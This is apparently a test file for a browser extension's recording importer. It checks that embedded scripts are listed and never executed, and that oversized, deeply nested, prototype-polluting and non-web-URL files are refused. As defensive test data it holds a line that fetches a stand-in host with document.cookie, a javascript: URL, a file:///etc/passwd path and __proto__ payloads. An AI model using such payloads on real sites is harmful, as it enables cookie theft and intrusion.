import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { importRecording } from '@/lib/recorder/import';
import { accepted, complaints } from './imported';

const own = (fields: object = {}) => ({
  version: 1,
  name: 'Search',
  startUrl: 'https://shop.example/',
  formats: ['markdown'],
  steps: [{ id: 'a', action: { type: 'click', selector: '#a' } }],
  notes: [],
  ...fields,
});

const script = (source: string, id: string, details: object = {}) => ({
  id,
  action: { type: 'executeJavascript', script: source },
  ...details,
});

describe('a file of this extension', () => {
  it('is taken as it is', () => {
    const { recording, notes, scripts } = accepted(own({ endUrl: 'https://shop.example/b' }));
    expect(recording).toEqual(
      own({
        endUrl: 'https://shop.example/b',
        steps: [{ id: 'a', action: { type: 'click', selector: '#a', all: false } }],
      }),
    );
    expect([notes, scripts]).toEqual([[], []]);
  });

  it('is refused with one sentence where it is newer', () => {
    expect(complaints(own({ version: 7, moods: [] }))).toEqual([
      'version: The file has version 7, and this extension knows versions up to 1: update it first.',
    ]);
  });

  it('is refused with every field where it is damaged', () => {
    const damaged = own({ name: 3, startUrl: 'shop', steps: [{ action: { type: 'click' } }], version: '1' });
    expect(complaints(damaged).map((line) => line.split(':')[0])).toEqual([
      'version',
      'name',
      'startUrl',
      'steps[0].id',
      'steps[0].action.selector',
    ]);
  });

  it('is read with the mark that some editors put at the beginning', () => {
    expect(accepted(`\uFEFF${JSON.stringify(own())}`).recording.name).toBe('Search');
  });
});

describe('scripts', () => {
  it('are all listed, whatever a step says they are, and none is run', () => {
    const evil = 'globalThis.pwned = true; fetch("https://evil.example/?" + document.cookie)';
    const steps = [
      script(evil, 'a', { script: 'choose', value: 'Price', label: 'Sort by' }),
      script('', 'b'),
      script('1', 'c'),
    ];
    expect(accepted(own({ steps })).scripts).toEqual([evil, '', '1']);
    const request = { url: 'https://a.example/', actions: steps.map(({ action }) => action) };
    expect(accepted(request).scripts).toEqual([evil, '', '1']);
    expect(globalThis).not.toHaveProperty('pwned');
  });

  it('of a DevTools file are listed too', () => {
    const { scripts } = accepted({
      title: 'x',
      steps: [
        { type: 'navigate', url: 'https://a.example/' },
        { type: 'waitForExpression', expression: 'globalThis.pwned = true' },
      ],
    });
    expect(scripts).toEqual([expect.stringContaining('globalThis.pwned = true')]);
    expect(globalThis).not.toHaveProperty('pwned');
  });
});

describe('what is no recording', () => {
  it.each([
    ['', 'body: This is not JSON: the file is damaged, or no recording.'],
    ['{"version":1,', 'body: This is not JSON: the file is damaged, or no recording.'],
    [
      '[{"type":"scrape"}]',
      'body: This is a list, which has no address to start at: put actions into {"url": …, "actions": […]}.',
    ],
    ['null', /^body: This is no recording/],
    ['"text"', /^body: This is no recording/],
    ['{}', /^body: This is no recording/],
    ['{"name":"Selenium","tests":[],"version":"2.0"}', /^body: This is no recording/],
  ])('%s', (text, expected) => {
    expect(complaints(text)).toEqual([typeof expected === 'string' ? expected : expect.stringMatching(expected)]);
  });

  it('never throws', { timeout: 30_000 }, () => {
    fc.assert(fc.property(fc.string(), (text) => void importRecording(text)));
    fc.assert(fc.property(fc.jsonValue(), (value) => void importRecording(JSON.stringify(value))));
    const key = fc.constantFrom(
      'version',
      'steps',
      'startUrl',
      'url',
      'title',
      'type',
      'selectors',
      'action',
      'actions',
    );
    const value = fc.oneof(
      fc.jsonValue(),
      fc.constantFrom('click', 'change', 'https://a.example/', [], [['#a']], [[]]),
    );
    const object = fc.dictionary(key, value);
    const file = fc.tuple(object, fc.array(object)).map(([body, steps]) => ({ ...body, steps }));
    fc.assert(fc.property(fc.oneof(object, file), (body) => void importRecording(JSON.stringify(body))));
  });
});

describe('a hostile file', () => {
  it('is refused above 10 MB, before it is read', { tags: ['slow'] }, () => {
    const large = own({ name: 'x'.repeat(20 * 1024 * 1024) });
    expect(complaints(large)).toEqual(['body: The file has more than 10 MB: no recording is that large.']);
    // Fewer characters, each of three bytes.
    expect(complaints(own({ name: '日'.repeat(4 * 1024 * 1024) }))).toEqual([expect.stringMatching(/more than 10 MB/)]);
  });

  it.each([
    own({ steps: Array.from({ length: 10_000 }, (_, index) => ({ id: `${index}`, action: { type: 'scrape' } })) }),
    own({ steps: Array.from({ length: 10_000 }, () => 'damaged') }),
    { title: 'x', steps: Array.from({ length: 10_000 }, () => ({ type: 'keyDown', key: 'a' })) },
  ])('with 10,000 steps gets one sentence', (file) => {
    expect(complaints(file)).toEqual([
      'steps: The file has 10000 steps, and at most 500 can be opened: cut it into several.',
    ]);
  });

  it('with 10,000 actions is refused as a request', () => {
    const actions = Array.from({ length: 10_000 }, () => ({ type: 'scrape' }));
    expect(complaints({ url: 'https://a.example/', actions })).toEqual([
      'actions: Number of actions cannot exceed 50.',
    ]);
  });

  it('cannot be nested without end', { tags: ['slow'] }, () => {
    expect(complaints(`${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}`)).toHaveLength(1);
    const deep = `{"url":"https://a.example/","formats":[{"type":"json","schema":${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}}]}`;
    expect(complaints(deep)).toEqual(['body: The file is nested more than 100 levels deep.']);
  });

  it.each([
    'javascript:alert(1)',
    'data:text/html,x',
    'file:///etc/passwd',
    'chrome://settings',
    ' javascript:alert(1)',
  ])('cannot start at %s', (url) => {
    expect(complaints(own({ startUrl: url }))).toEqual(['startUrl: Must be an address of the web.']);
    expect(complaints(own({ endUrl: url }))).toEqual(['endUrl: Must be an address of the web.']);
    expect(complaints({ url })).toEqual([expect.stringMatching(/^url: /)]);
    expect(complaints({ title: 'x', steps: [{ type: 'navigate', url }] })).toEqual([
      'steps: There is no address to start at: a step must navigate to a page.',
    ]);
  });

  it('cannot reach a prototype', () => {
    const text = JSON.stringify(own({ formats: [{ type: 'json', schema: { properties: { constructor: {} } } }] }));
    const { recording, notes } = accepted(
      text
        .replace('{"version"', '{"__proto__":{"polluted":1},"version"')
        .replace('{"constructor"', '{"__proto__":{"polluted":1},"constructor"'),
    );
    expect(notes).toEqual(['Members named __proto__ were left out: they could change others.']);
    expect(JSON.stringify(recording)).not.toContain('__proto__');
    expect(recording.formats).toEqual([{ type: 'json', schema: { properties: { constructor: {} } } }]);
    expect({}).not.toHaveProperty('polluted');
    expect(complaints(own({ constructor: { prototype: {} } }))).toEqual([
      'constructor: Unknown field: remove it, or check its spelling.',
    ]);
  });

  it.each(['__proto__', 'constructor', 'toString', 'hasOwnProperty'])('has no step of the kind %s', (type) => {
    const file = {
      title: 'x',
      steps: [
        { type: 'navigate', url: 'https://a.example/' },
        { type, selectors: ['#a'] },
      ],
    };
    expect(accepted(file)).toMatchObject({
      actions: [],
      notes: [`Step 2: A step of the kind “${type}” is not known here and was left out.`],
    });
  });
});
